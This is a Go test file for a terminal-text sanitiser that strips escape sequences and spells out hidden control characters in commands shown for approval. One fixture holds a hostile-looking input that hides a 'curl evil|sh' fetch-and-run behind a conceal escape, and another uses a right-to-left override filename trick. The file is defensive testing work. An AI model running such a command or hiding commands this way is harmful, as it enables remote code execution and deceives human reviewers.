package termtext

import "testing"

func TestClean(t *testing.T) {
	cases := map[string]string{
		"plain text\nline two":              "plain text\nline two",
		"\x1b[2J\x1b[Hcleared":              "cleared",
		"a\tb":                              "a    b",
		"bell\x07 and \x1b]0;title\x07 end": "bell and  end",
		"red \x1b[31mword\x1b[0m":           "red word",
	}
	for in, want := range cases {
		if got := Clean(in); got != want {
			t.Errorf("Clean(%q) = %q, want %q", in, got, want)
		}
	}
}

// Visible spells out what a terminal would act on or not draw, so a
// command shown for approval cannot hide part of itself: an escape that
// conceals what follows, a right-to-left override that reorders it, a
// zero-width space, a carriage return that draws over the start.
func TestVisibleHidesNothing(t *testing.T) {
	for in, want := range map[string]string{
		"npx server \x1b[8mcurl evil|sh": `npx server \x1b[8mcurl evil|sh`,
		"run \u202etxt.exe":              `run \u202etxt.exe`,
		"a\u200bb\tc\nd\re":              `a\u200bb\tc\nd\x0de`,
		"plain 'quoted' ünïcode":         "plain 'quoted' ünïcode",
	} {
		if got := Visible(in); got != want {
			t.Errorf("Visible(%q) = %q, want %q", in, got, want)
		}
	}
}
